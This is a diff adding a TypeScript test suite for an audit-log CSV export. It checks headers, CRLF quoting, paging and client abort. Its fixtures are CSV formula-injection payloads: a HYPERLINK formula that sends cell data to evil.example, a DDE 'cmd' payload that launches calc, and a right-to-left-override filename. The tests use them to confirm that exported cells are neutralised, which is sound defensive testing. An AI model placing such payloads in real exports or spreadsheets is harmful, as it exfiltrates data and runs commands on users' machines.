@@ -1,0 +1,240 @@
+// The log as CSV: whole, safe to open in a spreadsheet, and in the memory of one page.
+import { execFileSync, spawnSync } from 'node:child_process'
+import { suite } from 'uvu'
+import * as assert from 'uvu/assert'
+import { csvLines } from '../../src/audit/csv.ts'
+import type { ByteAnswer } from '../../src/http/answer.ts'
+import type { Call } from '../../src/http/operation.ts'
+import { exportAudit } from '../../src/audit/operations.ts'
+import { gate } from '../db/connected.ts'
+import type { Client } from '../helpers/client.ts'
+import { startService, type Service } from '../helpers/service.ts'
+
+const hasPython = spawnSync('python3', ['--version']).status === 0
+const columns = [
+  'id',
+  'at',
+  'actor_kind',
+  'actor_user_id',
+  'actor_email',
+  'act',
+  'target_kind',
+  'target_id',
+  'target_name',
+  'ip',
+  'details',
+]
+
+/** As a real reader of CSV sees it; strict, so that it refuses what only looks right. */
+function readCsv(data: Buffer | string): string[][] {
+  const program = `
+import csv, io, json, sys
+text = sys.stdin.buffer.read().decode('utf-8')
+print(json.dumps(list(csv.reader(io.StringIO(text, newline=''), strict=True))))`
+  const options = { input: data, encoding: 'utf8', maxBuffer: 256 * 1024 * 1024 } as const
+  return JSON.parse(execFileSync('python3', ['-c', program], options))
+}
+
+/** What spreadsheets would run. */
+const formula = /^[=+\-@\t\r]/
+
+const evilNames = [
+  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+  "+cmd|' /C calc'!A0",
+  '-2+3+cmd',
+  '@SUM(1+1)*cmd',
+  '\t=1+1',
+  '\r=1+1',
+  'a,b',
+  'a "quoted" name',
+  'two\nlines',
+  'two\r\nlines',
+  '"',
+  ',',
+  "'already",
+  ' =1+1',
+  'naïve 😀 \u202egpj.exe',
+  '',
+  '"=1+1"',
+]
+
+const csv = suite('audit: CSV')
+let service: Service
+let admin: Client
+
+csv.before(async () => {
+  service = await startService()
+  admin = await service.admin()
+})
+csv.after(async () => {
+  await admin.close()
+  await service.stop()
+})
+csv.before.each(async () => {
+  await service.database.sql`delete from audit`
+})
+
+async function insert(names: readonly string[]): Promise<void> {
+  await service.database.sql`
+    insert into audit (
+      at, actor_kind, actor_user_id, actor_email, act, target_kind, target_id, target_name, ip,
+      details
+    )
+    select '2026-11-21T12:00:00Z', 'user', 7, '=1+1@example.org', 'share.created', 'share',
+      '-AAAA', name, '203.0.113.9', jsonb_build_object('by', name, 'n', 1)
+    from unnest(${[...names]}::text[]) as name`
+}
+
+csv('should answer an attachment that nobody stores, and no body to HEAD', async () => {
+  for (const method of ['GET', 'HEAD']) {
+    const answer = await admin.call(method, '/api/audit.csv')
+    assert.is(answer.status, 200)
+    assert.match(String(answer.headers['content-type']), /^text\/csv; charset=utf-8/)
+    assert.match(String(answer.headers['content-disposition']), /^attachment; filename="audit.csv"/)
+    assert.is(answer.headers['cache-control'], 'no-store')
+    assert.is(answer.headers['x-content-type-options'], 'nosniff')
+    const head = `${columns.join(',')}\r\n`
+    assert.is(answer.body.toString(), method === 'GET' ? head : '')
+  }
+})
+
+if (hasPython) {
+  csv('should be read back as it is, whatever people call their things', async () => {
+    await insert(evilNames)
+    const [head, ...rows] = readCsv((await admin.get('/api/audit.csv')).body)
+    assert.equal(head, columns)
+    const safe = (name: string) => (formula.test(name) ? `'${name}` : name)
+    const found = rows.map((row) => {
+      assert.is(row.length, columns.length)
+      for (const cell of row) assert.not.match(cell, formula)
+      const [, at, kind, userId, email, act, targetKind, targetId, name, ip, details] = row
+      assert.equal(
+        [at, kind, userId, email, act, targetKind, targetId, ip],
+        [
+          '2026-11-21T12:00:00.000Z',
+          'user',
+          '7',
+          "'=1+1@example.org",
+          'share.created',
+          'share',
+          "'-AAAA",
+          '203.0.113.9',
+        ],
+      )
+      return { name, by: JSON.parse(details!).by }
+    })
+    assert.equal(
+      found.toReversed(),
+      evilNames.map((name) => ({ name: safe(name), by: name })),
+    )
+  })
+
+  csv('should hold what the list holds, with the same filters, over many pages', async () => {
+    await insert(Array.from({ length: 2_345 }, (_, n) => `name ${n}`))
+    const [, ...rows] = readCsv((await admin.get('/api/audit.csv?act=share.&actor=7')).body)
+    assert.is(rows.length, 2_345)
+    const ids = rows.map(([id]) => Number(id))
+    assert.equal(
+      ids,
+      ids.toSorted((a, b) => b - a),
+    )
+    assert.is(new Set(ids).size, ids.length)
+    const listed: { id: number }[] = (await admin.get('/api/audit?limit=1000')).json()
+    assert.equal(
+      ids.slice(0, 1000),
+      listed.map(({ id }) => id),
+    )
+    assert.equal(readCsv((await admin.get('/api/audit.csv?actor=8')).body), [columns])
+  })
+} else {
+  process.stdout.write('skipped: reading CSV back: this machine has no python3\n')
+}
+
+csv('should end every line with CRLF, and quote only where it must', () => {
+  assert.is(csvLines([['a', 1, null, { b: 'c' }], []]), 'a,1,,"{""b"":""c""}"\r\n\r\n')
+})
+
+csv('should hold one page, no connection and no transaction while a client is slow', async () => {
+  await insert(Array.from({ length: 1_600 }, (_, n) => `${n} `.repeat(50)))
+  const { rooms } = service.app
+  let pagesRead = 0
+  const counted = {
+    async *pages(...args: Parameters<typeof rooms.audit.pages>) {
+      for await (const page of rooms.audit.pages(...args)) {
+        pagesRead += 1
+        assert.ok(page.length <= 500)
+        yield page
+      }
+    },
+  }
+  const exchange = { request: { method: 'GET' } }
+  const call = { exchange, query: {} } as unknown as Call
+  const answer = (await exportAudit.handle(
+    { audit: counted } as unknown as typeof rooms,
+    call,
+    undefined,
+  )) as ByteAnswer
+
+  const written: Buffer[] = []
+  let taken = gate()
+  let arrived = gate()
+  const sending = answer.send!({
+    signal: new AbortController().signal,
+    async write(data) {
+      written.push(Buffer.from(data))
+      arrived.open()
+      await taken.opened
+    },
+  })
+  for (let page = 0; page <= 4; page += 1) {
+    await arrived.opened
+    assert.is(pagesRead, page, 'the next page is read when this one has gone')
+    assert.ok(written.at(-1)!.length < 1024 * 1024)
+    const open = await service.database.sql`
+      select state from pg_stat_activity
+      where datname = current_database() and state like 'idle in transaction%'`
+    assert.equal([...open], [])
+    arrived = gate()
+    const previous = taken
+    taken = gate()
+    previous.open()
+  }
+  await sending
+  assert.is(Buffer.concat(written).toString().split('\r\n').length, 1_602)
+})
+
+csv('should stop reading when the client goes away', async () => {
+  await insert(Array.from({ length: 1_600 }, (_, n) => String(n)))
+  const { rooms } = service.app
+  let isEnded = false
+  const counted = {
+    async *pages(...args: Parameters<typeof rooms.audit.pages>) {
+      try {
+        yield* rooms.audit.pages(...args)
+      } finally {
+        isEnded = true
+      }
+    },
+  }
+  const call = { exchange: { request: { method: 'GET' } }, query: {} } as unknown as Call
+  const answer = (await exportAudit.handle(
+    { audit: counted } as unknown as typeof rooms,
+    call,
+    undefined,
+  )) as ByteAnswer
+  let writes = 0
+  const gone = new Error('gone')
+  const sending = answer.send!({
+    signal: new AbortController().signal,
+    async write() {
+      writes += 1
+      if (writes === 3) throw gone
+    },
+  })
+  await sending.then(
+    () => assert.unreachable(),
+    (error: unknown) => assert.is(error, gone),
+  )
+  assert.ok(isEnded)
+})
+csv.run()
